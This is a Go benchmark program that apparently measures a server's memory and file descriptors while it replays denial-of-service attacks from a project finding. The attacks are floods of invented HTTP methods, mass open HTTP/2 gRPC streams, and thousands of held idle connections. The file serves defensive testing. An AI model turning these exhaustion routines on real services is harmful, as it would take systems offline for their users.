//go:build ignore

// Command exhaust replays the resource-exhaustion attacks of issue 11
// (finding 6) against a running talos process and reports its RSS and open
// file descriptors before and after. It is a measuring tool, not a test:
//
//	go run bench/exhaust/main.go -pid PID -mode methods -addr 127.0.0.1:4420 -n 20000
//	go run bench/exhaust/main.go -pid PID -mode streams -addr 127.0.0.1:9191 -conns 1 -per 100000 -path /envoy.service.auth.v3.Authorization/Check
//	go run bench/exhaust/main.go -pid PID -mode idle -addr 127.0.0.1:4422 -n 10000
//
// -probe URL is fetched (1s timeout) after the attack, while it is held.
package main

import (
	"bufio"
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	pid := flag.Int("pid", 0, "process to measure")
	mode := flag.String("mode", "", "methods | streams | idle")
	addr := flag.String("addr", "", "target host:port")
	n := flag.Int("n", 20000, "requests (methods) or connections (idle)")
	conns := flag.Int("conns", 1, "streams: connections")
	per := flag.Int("per", 100000, "streams: streams per connection")
	path := flag.String("path", "/envoy.service.auth.v3.Authorization/Check", "streams: gRPC method")
	probe := flag.String("probe", "", "URL fetched after the attack")
	metrics := flag.String("metrics", "", "metrics URL whose size is reported after the attack")
	flag.Parse()

	before := measure(*pid)
	var hold []net.Conn
	switch *mode {
	case "methods":
		methods(*addr, *n)
	case "streams":
		hold = streams(*addr, *path, *conns, *per)
	case "idle":
		hold = idle(*addr, *n)
	default:
		fmt.Fprintln(os.Stderr, "unknown -mode")
		os.Exit(2)
	}
	time.Sleep(3 * time.Second) // let the target settle
	after := measure(*pid)
	fmt.Printf("%s %s: before %s, after %s", *mode, *addr, before, after)
	if *probe != "" {
		c := &http.Client{Timeout: time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
		start := time.Now()
		resp, err := c.Get(*probe)
		if err != nil {
			fmt.Printf("; probe failed: %v", err)
		} else {
			resp.Body.Close()
			fmt.Printf("; probe %d in %s", resp.StatusCode, time.Since(start).Round(time.Millisecond))
		}
	}
	if *metrics != "" {
		c := &http.Client{Timeout: 30 * time.Second}
		if resp, err := c.Get(*metrics); err == nil {
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			fmt.Printf("; /metrics %d bytes", len(b))
		} else {
			fmt.Printf("; /metrics failed: %v", err)
		}
	}
	fmt.Printf("; attacker holds %d connections\n", len(hold))
	for _, c := range hold {
		c.Close()
	}
}

type usage struct {
	rssKiB int
	fds    int
}

func (u usage) String() string {
	return fmt.Sprintf("RSS %.1f MiB, %d fds", float64(u.rssKiB)/1024, u.fds)
}

func measure(pid int) usage {
	var u usage
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for l := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			u.rssKiB, _ = strconv.Atoi(strings.Fields(v)[0])
		}
	}
	ents, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	u.fds = len(ents)
	return u
}

// methods sends n requests with distinct made-up methods on 8 keep-alive
// connections.
func methods(addr string, n int) {
	var wg sync.WaitGroup
	const workers = 8
	for w := range workers {
		wg.Go(func() {
			c, err := net.Dial("tcp", addr)
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				return
			}
			defer c.Close()
			go func() {
				bw := bufio.NewWriter(c)
				for i := w; i < n; i += workers {
					fmt.Fprintf(bw, "X%dMETHOD /x HTTP/1.1\r\nHost: t\r\n\r\n", i)
				}
				_ = bw.Flush()
			}()
			r := bufio.NewReader(c)
			for i := w; i < n; i += workers {
				resp, err := http.ReadResponse(r, nil)
				if err != nil {
					fmt.Fprintln(os.Stderr, "response:", err)
					return
				}
				_, _ = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
		})
	}
	wg.Wait()
}

// streams opens per gRPC streams on each of conns connections and sends no
// message on any; it reports how many the server refused.
func streams(addr, path string, conns, per int) []net.Conn {
	var out []net.Conn
	var refused, reset int
	var mu sync.Mutex
	for range conns {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			break
		}
		out = append(out, c)
		_, _ = io.WriteString(c, http2.ClientPreface)
		bw := bufio.NewWriterSize(c, 64<<10)
		fr := http2.NewFramer(bw, c)
		_ = fr.WriteSettings()
		var hb bytes.Buffer
		enc := hpack.NewEncoder(&hb)
		var wmu sync.Mutex
		go func() { // answer settings and pings, count refusals
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					return
				}
				switch f := f.(type) {
				case *http2.SettingsFrame:
					if !f.IsAck() {
						wmu.Lock()
						_ = fr.WriteSettingsAck()
						_ = bw.Flush()
						wmu.Unlock()
					}
				case *http2.PingFrame:
					if !f.IsAck() {
						wmu.Lock()
						_ = fr.WritePing(true, f.Data)
						_ = bw.Flush()
						wmu.Unlock()
					}
				case *http2.RSTStreamFrame:
					mu.Lock()
					if f.ErrCode == http2.ErrCodeRefusedStream {
						refused++
					} else {
						reset++
					}
					mu.Unlock()
				}
			}
		}()
		for i := range per {
			hb.Reset()
			for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", "talos"},
				{"content-type", "application/grpc"}, {"te", "trailers"}} {
				_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
			}
			wmu.Lock()
			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: hb.Bytes(), EndHeaders: true})
			wmu.Unlock()
		}
		wmu.Lock()
		_ = bw.Flush()
		wmu.Unlock()
	}
	time.Sleep(2 * time.Second)
	mu.Lock()
	fmt.Fprintf(os.Stderr, "streams: %d attempted, %d refused, %d reset otherwise\n", conns*per, refused, reset)
	mu.Unlock()
	return out
}

// idle opens n connections, makes one keep-alive request on each and
// leaves them open.
func idle(addr string, n int) []net.Conn {
	var out []net.Conn
	for i := range n {
		c, err := net.DialTimeout("tcp", addr, 2*time.Second)
		if err != nil {
			fmt.Fprintf(os.Stderr, "idle: dial %d: %v\n", i, err)
			break
		}
		fmt.Fprintf(c, "GET /health/alive HTTP/1.1\r\nHost: t\r\n\r\n")
		out = append(out, c)
	}
	return out
}
